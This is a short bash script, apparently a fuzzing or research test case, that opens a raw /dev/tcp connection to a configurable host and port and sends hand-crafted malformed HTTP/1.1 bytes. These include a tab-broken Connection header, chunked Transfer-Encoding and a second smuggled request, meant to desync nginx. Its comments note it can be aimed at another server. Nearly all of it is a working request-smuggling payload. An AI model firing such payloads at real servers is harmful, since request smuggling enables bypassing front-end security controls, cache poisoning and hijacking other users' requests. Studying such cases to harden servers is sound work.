#!/bin/bash
# desync/connection-invalid/smuggled-request via byte.replace+stream.duplicate against nginx
# HOST=… PORT=… aim it at another server (the bytes keep the original Host or :authority).
HOST=${HOST:-127.0.0.1}
PORT=${PORT:-49285}
# A server that closes early makes a later write fail; the answer is still read.
trap '' PIPE
exec 3<>"/dev/tcp/$HOST/$PORT" || exit 1
timeout 2 cat <&3 | xxd &
printf 'T /o HTTP/1.1\r\nHost:t}\r\nConnection: Transfer-\tg\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\nT /o HTTP/1.1\r\nHost:h\n\r\n' >&3
wait
